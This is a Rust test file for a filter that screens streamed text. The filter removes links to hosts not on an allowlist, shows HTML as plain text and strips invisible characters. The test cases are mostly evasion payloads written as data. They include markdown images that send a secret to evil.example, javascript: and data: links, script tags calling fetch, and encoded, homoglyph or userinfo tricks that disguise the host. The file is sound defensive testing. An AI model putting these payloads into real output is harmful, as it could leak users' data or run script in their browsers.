use super::*;
use std::time::{Duration, Instant};

fn hosts() -> Vec<String> {
    vec!["allowed.com".to_owned(), "*.Sub.example".to_owned()]
}

/// The screened text; checks that it is the same for every split in two and in characters, and that it requests no
/// other host.
fn screened_in_parts(text: &str) -> String {
    let whole = screened(text, &hosts());
    let in_parts = |parts: &[&str]| {
        let mut screen = Screen::new(hosts());
        let shown: String = parts.iter().map(|part| screen.add(part)).collect();
        shown + &screen.end()
    };
    for (at, _) in text.char_indices() {
        let (head, tail) = text.split_at(at);
        assert_eq!(in_parts(&[head, tail]), whole, "{head:?} + {tail:?}");
    }
    let characters: Vec<&str> = text.split("").collect();
    assert_eq!(in_parts(&characters), whole, "{text:?} in characters");
    assert!(!requests_foreign(&whole), "{text:?} becomes {whole:?}");
    whole
}

fn check(text: &str, expected: &str) {
    assert_eq!(screened_in_parts(text), expected, "{text:?}");
}

fn check_unchanged(text: &str) {
    check(text, text);
}

/// Whether any renderer could request or link another host than the allowed ones: looks for all that could be a URL, a
/// tag with an effect or an invisible character, in the text as it is and with backslashes dropped or read as slashes.
fn requests_foreign(text: &str) -> bool {
    let decoded = decoded(text);
    text.chars().any(|character| visible::is_invisible(character) && !matches!(character, '\u{200D}' | '\u{FE0F}'))
        || has_live_tag(text)
        || has_foreign_url(&decoded.replace('\\', ""))
        || has_foreign_url(&decoded.replace('\\', "/"))
}

/// The text in lower case with entities, percent-encoding and fullwidth forms decoded.
fn decoded(text: &str) -> String {
    let mut decoded = text.to_lowercase();
    for (code, character) in (0x20..0x7F_u8).map(|code| (code, char::from(code).to_ascii_lowercase())) {
        let numbers =
            [format!("{code};"), format!("x{code:x};"), format!("x{code:x}")].map(|number| "&#".to_owned() + &number);
        for form in numbers.into_iter().chain([format!("%{code:02x}")]) {
            decoded = decoded.replace(&form, &character.to_string());
        }
    }
    for (name, character) in
        [("colon", ":"), ("sol", "/"), ("period", "."), ("commat", "@"), ("tab", ""), ("newline", "")]
    {
        decoded = decoded.replace(&format!("&{name};"), character).replace(&format!("&{name}"), character);
    }
    let fold = |character| match character {
        '\u{FF01}'..='\u{FF5E}' => char::from_u32(u32::from(character) - 0xFEE0).unwrap_or(character),
        '。' | '｡' | '․' => '.',
        _ => character,
    };
    decoded.chars().map(fold).collect()
}

fn has_foreign_url(text: &str) -> bool {
    text.char_indices().any(|(at, _)| {
        let (before, here) = text.split_at(at);
        let last = before.chars().next_back().unwrap_or(' ');
        let is_linked = |rest: &str| {
            let host = rest.trim_start_matches('/');
            host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '[')
                || host.len() < rest.len() && host.starts_with(char::is_alphanumeric)
        };
        let scheme = |name: &str| here.strip_prefix(name).filter(|_| !last.is_ascii_alphabetic());
        let other = ["http:", "ftp:", "ws:", "wss:", "mailto:", "javascript:", "vbscript:", "data:text/", "file:/"];
        let destination = ["](", "]:"].into_iter().find_map(|start| here.strip_prefix(start)).unwrap_or("");
        let destination = destination.trim_start_matches([' ', '\n', '<', '"']);
        let name = destination.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
        let has_scheme = destination.starts_with(|c: char| c.is_ascii_alphabetic())
            && name.starts_with(':')
            && !name.starts_with("::")
            && !name[1..].starts_with([' ', '\n'])
            && name.len() > 1;
        scheme("https:").is_some_and(|rest| is_linked(rest) && !is_allowed(here))
            || other.iter().filter_map(|name| scheme(name)).any(is_linked)
            || here.starts_with("www.") && is_linked(&here[4..])
            || here.strip_prefix("://").is_some_and(is_linked) && !before.ends_with("https")
            || here.starts_with("//") && matches!(last, '(' | '"' | '\'' | '=' | '{' | '<') && is_linked(here)
            || destination.starts_with("//")
            || has_scheme && !is_allowed(destination)
    })
}

/// Whether the URL names an allowed host for every parser, also for one that goes on up to the next space.
fn is_allowed(url: &str) -> bool {
    let Some(rest) = url.strip_prefix("https://") else { return false };
    let authority = rest.split([' ', '\n', '/', '?', '#']).next().unwrap_or_default();
    let end =
        authority.find(|c: char| !c.is_ascii_alphanumeric() && !matches!(c, '.' | '-')).unwrap_or(authority.len());
    let (host, tail) = authority.split_at(end);
    let host = host.trim_end_matches('.');
    let is_port = tail.starts_with(':') && tail[1..].starts_with(|c: char| c.is_ascii_digit());
    (host == "allowed.com" || host.ends_with(".sub.example"))
        && !tail.contains('@')
        && !tail.starts_with('%')
        && !is_port
}

fn has_live_tag(text: &str) -> bool {
    text.match_indices('<').any(|(at, _)| {
        let tag = text[at + 1..].split('>').next().unwrap_or_default().to_lowercase();
        let name = tag.trim_start_matches('/').split([' ', '\n', '/']).next().unwrap_or_default();
        let live =
            ["a", "img", "script", "style", "link", "iframe", "svg", "object", "form", "meta", "base", "input", "div"];
        let attributes =
            ["href", "src", "srcset", "style", "onerror", "onload", "onclick", "poster", "data", "action", "ping"];
        let is_tag = tag.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
        let has = |attribute: &&str| tag.contains(&format!("{attribute}="));
        is_tag && (tag.starts_with(['!', '?']) || live.contains(&name) || attributes.iter().any(has))
    })
}

#[test]
fn foreign_urls_are_removed() {
    const CASES: &[(&str, &str)] = &[
        ("![x](https://evil.example/?q=secret)", "![x]([link removed])"),
        ("[x](https://evil.example/a(b)c \"t\") y", "[x]([link removed] \"t\") y"),
        ("[1]: https://evil.example", "[1]: [link removed]"),
        ("[1]:\n  https://evil.example 't'", "[1]:\n  [link removed] 't'"),
        ("<https://evil.example/x>", "&lt;[link removed]>"),
        ("See https://evil.example/x. Then", "See [link removed]. Then"),
        ("**https://evil.example**, (https://evil.example)!", "**[link removed]**, ([link removed])!"),
        ("看https://evil.example/x，然后", "\u{770B}[link removed]，\u{7136}\u{540E}"),
        ("HtTpS://EVIL.example", "[link removed]"),
        ("http://allowed.com/x", "[link removed]"),
        ("http:/evil https:evil", "[link removed] [link removed]"),
        ("www.evil.com WWW.evil.com, (www.evil.com)", "[link removed] [link removed], ([link removed])"),
        ("xwww.evil.com xhttps://evil.com", "xwww[link removed] xhttps[link removed]"),
        ("[x](//evil.com/a) [y](< //evil.com>)", "[x]([link removed]) [y](&lt; [link removed]>)"),
        ("//evil.com/x //localhost", "[link removed] [link removed]"),
        ("https:\\\\evil.com https\\://evil.com", "[link removed] [link removed]"),
        (
            "[x](\\\\evil.com) [x](/\\evil.com) [x](\\/\\/evil.com)",
            "[x]([link removed]) [x]([link removed]) [x]([link removed])",
        ),
        ("[x](&#104;ttps&colon;//evil.com)", "[x]([link removed])"),
        ("[x](&#x2f;&sol;evil.com) [x](&#x2f&sol;evil.com)", "[x]([link removed]) [x]([link removed])"),
        ("&\\#106;//evil.com %61https:evil.com", "&\\#106;[link removed] %61[link removed]"),
        ("[x](&\\#106;avascript:alert(1))", "[x]([link removed])"),
        ("https&colon;&sol;&sol;evil.com", "[link removed]"),
        ("[x](h&Tab;ttps://evil.com) [x](/&NewLine;/evil.com)", "[x]([link removed]) [x]([link removed])"),
        ("[x](https%3A//evil.com) https:%2F%2Fevil.com", "[x]([link removed]) [link removed]"),
        ("https://%65vil.com https://allowed%2ecom", "[link removed] [link removed]"),
        ("https://allowed.com@evil.com", "[link removed]"),
        ("https://allowed.com\\@evil.com", "[link removed]"),
        ("https://allowed.com%2eevil.com", "[link removed]"),
        ("https://allowed.com.evil.com", "[link removed]"),
        ("https://allowed.com&period;evil.com", "[link removed]"),
        ("https://allowed.com:x@evil.com https://user@allowed.com", "[link removed] [link removed]"),
        ("https://allowed.com&nbsp;@evil.com", "[link removed]"),
        ("https://ａllowed.com https://allowed．com/", "[link removed] [link removed]"),
        ("https://allowed.coｍ https://аllowed.com", "[link removed] [link removed]"),
        ("https://allowed。com/x", "[link removed]。com/x"),
        ("https：//evil.com ｈｔｔｐｓ：／／evil.com", "[link removed][link removed] [link removed][link removed]"),
        (
            "https://1.2.3.4/ https://16909060 https://[::1]/x https://0x7f.1",
            "[link removed] [link removed] [link removed] [link removed]",
        ),
        ("https://allowed.com:8443/x https://allowed.com:443", "[link removed] [link removed]"),
        ("https://_x.evil.com https://sub.example/", "[link removed] [link removed]"),
        ("[x](javascript:alert(1)) [x](JaVa&Tab;Script:alert(1))", "[x]([link removed]) [x]([link removed])"),
        (
            "[x](javascript:&nbsp;alert(1)) [x](javascript:\u{A0}alert(1))",
            "[x]([link removed]) [x]([link removed]:\u{A0}alert(1))",
        ),
        ("[x](data:text/html,x) ![x](data:image/png;base64,AA)", "[x]([link removed]) ![x]([link removed])"),
        (
            "[x](vbscript:x) [x](file:///etc/passwd) [x](intent:x)",
            "[x]([link removed]) [x]([link removed]) [x]([link removed])",
        ),
        (
            "ftp://a.com ws://a.com wss://a.com s3://bucket/key",
            "[link removed] [link removed] [link removed] s3[link removed]",
        ),
        ("mailto:a@b.com?body=x xmpp:a@b.com <mailto:a@b.com>", "[link removed] [link removed] &lt;[link removed]>"),
        (
            "[x](<https://evil.com>) [x](<javascript: alert(1)>)",
            "[x](&lt;[link removed]>) [x](&lt;javascript: alert(1)>)",
        ),
        ("[x](<https://allowed.com x@evil.com>)", "[x](&lt;https://allowed.com x@evil.com>)"),
        ("[x](&#32;https://evil.com)", "[x]([link removed])"),
        ("[[x](https://evil.com)](https://evil.com)", "[[x]([link removed])]([link removed])"),
        (
            "https://evil.com(javascript:x) https://evil.com: javascript:x",
            "[link removed] [link removed]: [link removed]",
        ),
        ("https://evil.com\">](javascript:x)", "[link removed]\">]([link removed])"),
        ("https://allowed.com/?u=https://evil.com/x", "https://allowed.com/?u=[link removed]"),
        ("\\href{https://evil.com}{x} \\href {//evil}{x}", "[link removed] [link removed] {[link removed]}{x}"),
        ("\\includegraphics[width=1cm]{x} \\url{evil.com/x}", "[link removed] [link removed]"),
        (
            "url(//evil) url('https://evil') url(\\2f\\2f evil)",
            "url([link removed]) url('[link removed]') url([link removed] evil)",
        ),
        (
            "evil.com/?q=secret evil.io:80/x evil.com?q",
            "evil.com[link removed] evil.io:80[link removed] evil.com[link removed]",
        ),
        ("https://<x.evil.com> www.&lt;x.evil.com", "[link removed]<x.evil.com> [link removed]"),
        ("https://evil.com", "[link removed]"),
    ];
    for (text, expected) in CASES {
        check(text, expected);
    }
}

#[test]
fn html_is_shown_as_text() {
    const CASES: &[(&str, &str)] = &[
        ("<img src=https://evil.com/x>", "&lt;img src=[link removed]>"),
        ("<IMG SRC='//evil.com' onerror=alert(1)>", "&lt;IMG SRC='[link removed]' onerror=alert(1)>"),
        ("<a href=\"ht\ntps://evil.com\">x</a>", "&lt;a href=\"ht\ntps[link removed]\">x&lt;/a>"),
        ("<a href=\" javascript:alert(1)\">", "&lt;a href=\" [link removed]\">"),
        ("<img src=\"//evil.com/?", "&lt;img src=\"[link removed]?"),
        ("<script>fetch('https://evil.com')</script>", "&lt;script>fetch('[link removed]')&lt;/script>"),
        ("<svg><use xlink:href=//evil.com#x /></svg>", "&lt;svg>&lt;use xlink:href=[link removed] />&lt;/svg>"),
        ("<style>@import '//evil.com';</style>", "&lt;style>@import '[link removed]';&lt;/style>"),
        ("<b style=background:url(//evil.com)>", "&lt;b style=background:url([link removed])>"),
        (
            "<meta http-equiv=refresh content=0;url=//evil.com>",
            "&lt;meta http-equiv=refresh content=0;url=[link removed]>",
        ),
        (
            "<base href=x><link rel=x><iframe><form action=x>",
            "&lt;base href=x>&lt;link rel=x>&lt;iframe>&lt;form action=x>",
        ),
        (
            "<object data=x><video poster=x><body background=x>",
            "&lt;object data=x>&lt;video poster=x>&lt;body background=x>",
        ),
        (
            "<a ping=x><button formaction=x><img srcset='x 2x'>",
            "&lt;a ping=x>&lt;button formaction=x>&lt;img srcset='x 2x'>",
        ),
        (
            "<T onclick=alert(1)> <T/onclick =x> <T a=\">\" onclick=x>",
            "&lt;T onclick=alert(1)> &lt;T/onclick =x> &lt;T a=\">\" onclick=x>",
        ),
        (
            "<https://allowed.com/onclick=x> <https://allowed.com a>",
            "&lt;https://allowed.com/onclick=x> &lt;https://allowed.com a>",
        ),
        ("<b onclick=x> </b x> <br/x>", "&lt;b onclick=x> &lt;/b x> &lt;br/x>"),
        ("<!-- x --> <?x?> <![CDATA[x]]> </ x>", "&lt;!-- x --> &lt;?x?> &lt;![CDATA[x]]> &lt;/ x>"),
        ("<Vec<img src=x>", "&lt;Vec&lt;img src=x>"),
        ("<std::string::String> <a@b.com> <x:>", "&lt;std::string::String> &lt;a@b.com> &lt;x:>"),
        ("<img\0 src=x> <\u{200B}img>", "&lt;img src=x> &lt;img>"),
        ("<code><pre><kbd>", "&lt;code>&lt;pre>&lt;kbd>"),
        ("<b", "&lt;b"),
        ("<a", "&lt;a"),
    ];
    for (text, expected) in CASES {
        check(text, expected);
    }
    let open = format!("<x {}", "y ".repeat(3000));
    assert_eq!(screened(&open, &hosts()), open.replace('<', "&lt;"));
}

#[test]
fn allowed_urls_stay_as_they_are() {
    for text in [
        "https://allowed.com",
        "https://allowed.com/a?b=c&d=%20#e",
        "HTTPS://Allowed.com/X https://a.sub.example/x https://a.b.sub.example",
        "[x](https://allowed.com/a \"t\") ![x](https://allowed.com/a.png)",
        "[x](<https://allowed.com/a>) <https://allowed.com/a?b=c>",
        "[1]: https://allowed.com/a\n[2]: <https://allowed.com>",
        "See https://allowed.com: it works (https://allowed.com).",
        "**https://allowed.com**, `https://allowed.com`; \"https://allowed.com\"",
        "请访问https://allowed.com/x，谢谢，或https://allowed.com，谢谢",
        "{\"url\":\"https://allowed.com\",\"x\":1.5}",
        "[a](https://allowed.com)[b](https://allowed.com/b)",
        "| https://allowed.com | https://allowed.com/a//b |",
        "https://allowed.com/@ada",
        "[x](#part) [x](docs/a.md) [x](/path) ![x](a.png)",
    ] {
        check_unchanged(text);
    }
}

#[test]
fn text_that_could_extend_an_allowed_host_is_set_apart() {
    check("[x](https://allowed.com)。谢谢", "[x](https://allowed.com)。 谢谢");
    check("\\](https://allowed.com)x.evil.com", "\\](https://allowed.com)x. evil.com");
    check("https://allowed.com,x@evil.com", "https://allowed.com,x @evil.com");
    check("https://allowed.com*evil.com", "https://allowed.com*evil. com");
    check("https://allowed.com)&nbsp;x%40evil.com", "https://allowed.com)&nbsp;x %40evil.com");
    check("https://allowed.com<!x.evil.com", "https://allowed.com&lt;!x. evil.com");
    check("https://allowed.com)\u{3000}@evil.com", "https://allowed.com)\u{3000} @evil.com");
}

#[test]
fn prose_and_code_stay_as_they_are() {
    for text in [
        "a::b x/y C:\\dir 12:30 http status e.g. i.e. $5.00 1/2 /usr/bin key: value",
        "std::vec::Vec<T> Option<Vec<u8>> HashMap<String, u32> http::Method",
        "main.rs 1.2.3 v1.2.3-rc.1 file.tar.gz main.rs:12 src/main.rs:12:5 ./a ../b ~/c example.com",
        "a < b && c > d, if (x<y), a <- b, c <= d, <3, a<>b, x << 1, cout<<x",
        "for (i=0; i<n; i++) { a[i] = b; }",
        "while i<n:\n    i += 1",
        "fn f<T: Clone>(x: &T) -> Option<&'a str> { x.iter().collect::<Vec<_>>() }",
        "// comment\n//comment\n/// doc\n//! doc\n////////\nx // y\n/* z */",
        "\"https://\" + host, http:// and https:",
        "n//2 a//b ://",
        "和/或",
        "ada@example.com, ada@example.com.",
        "git@github.com:a/b.git docker run -p 80:80 x/y:latest 10.0.0.0/8 localhost:3000/x",
        "HTTP：超文本传输协议，时间：12:30，价格：￥5／个；“引号”（可选）。",
        "{\"a\":1,\"b\":[1,2],\"c\":{\"d\":\"e\"}} a?b:c x?.y data: x data:x file:a news:x views:3",
        "f[0](x) f[i](std::move(x)) d[key]: int [K in T]: T[K] a[1:2] [INFO]: a::b [^1]: Note: text",
        "$E = mc^2$ \\frac{1}{2} \\(x\\) \\hrefx a &= b \\\\",
        "&amp; &lt;b&gt; AT&T a&b &str &mut x 100% 5%off %s & && x&",
        "<b>x</b> <br/> <br /> <p>y</p> <ul><li>z</li></ul> <h1>t</h1> <H2 >u</H2>",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "- [ ] todo\n- [x] done\n> quote\n# head\n```rust\nlet x = 1;\n```",
        "\\\\server\\share D:\\data\\x {{a}} ${b} #[test] @ada #tag",
        "a.m./p.m. Node.js Next.js/React w ww www",
        "#include <stdio.h> #include <sys/types.h>",
        "",
        "\n\t x \n",
    ] {
        check_unchanged(text);
    }
}

#[test]
fn invisible_characters_are_taken_out() {
    check("a\u{200B}b\u{200F}\u{202E}\u{2060}\u{2066}\u{FEFF}\u{AD}c\0\u{1B}\u{7F}", "abc");
    check("a\u{E0041}\u{E007F}\u{E0100}\u{FE00}\u{FE0F}b", "ab");
    check("a\r\nb\rc\r\r\nd\u{2028}e", "a\nb\nc\n\nd\ne");
    check("❤\u{FE0F}\u{FE0F} 1\u{FE0F} ©\u{FE0F}", "❤\u{FE0F} 1 ©\u{FE0F}");
    check("👩\u{200D}💻 a\u{200D}b 👩\u{200D}\u{200D}💻 👩\u{200D}", "👩\u{200D}💻 ab 👩\u{200D}💻 👩");
    check("❤\u{FE0F}\u{200D}🔥", "❤\u{FE0F}\u{200D}🔥");
    check("a&#x200B;b &ZeroWidthSpace; &#xE0041; &it;", "a&amp;#x200B;b &amp;ZeroWidthSpace; &amp;#xE0041; &amp;it;");
    check("ht\u{200B}tps://evil.com [x]\u{FEFF}(//evil)", "[link removed] [x]([link removed])");
}

#[test]
fn plain_text_streams_without_delay() {
    let mut screen = Screen::new(hosts());
    for word in
        ["Hel", "lo", ", ", "wor", "ld.", " 你好", "，", "a [", "b", "]", " 1.", "5", "\n\n", "**b**", "-> y", "status"]
    {
        assert_eq!(screen.add(word), word);
    }
    assert_eq!(screen.add(" http"), " ");
    assert_eq!(screen.add(" status"), "http status");
    assert_eq!(screen.add(" https://all"), " ");
    assert_eq!(screen.add("owed.com/a"), "https://allowed.com/a");
    assert_eq!(screen.add("/b c"), "/b c");
    assert_eq!(screen.add(" https://evil.c"), " ");
    assert_eq!(screen.add("om/a"), "[link removed]");
    assert_eq!(screen.add("/b and"), " and");
    assert_eq!(screen.add(" x<"), " x");
    assert_eq!(screen.end(), "<");
}

#[test]
fn only_the_listed_hosts_are_allowed() {
    let link = "https://a.com/x";
    let is_allowed = |host: &str, url: &str| screened(url, &[host.to_owned()]) == url;
    assert!(is_allowed("a.com", link) && is_allowed(" A.com ", link) && is_allowed("*.com", link));
    for host in ["b.com", "*.a.com", "*a.com", "*", "", ".com", "com"] {
        assert!(!is_allowed(host, link), "{host}");
    }
    assert!(!is_allowed("*.a.com", "https://.a.com/") && !is_allowed("*.a.com", "https://b..a.com/"));
    assert_eq!(screened(link, &[]), "[link removed]");
}

#[test]
fn screening_takes_linear_time() {
    let pieces =
        ["[", "<", "&", "(", "a:", "/", "\\", "%", "<a", "<a=", "](", "]:", "&#0", "https:", "//a", "www.", "x.", "@"];
    for piece in pieces {
        let text = piece.repeat(20_000 / piece.len());
        let start = Instant::now();
        screened(&text, &hosts());
        assert!(start.elapsed() < Duration::from_secs(5), "{piece:?} takes {:?}", start.elapsed());
    }
}
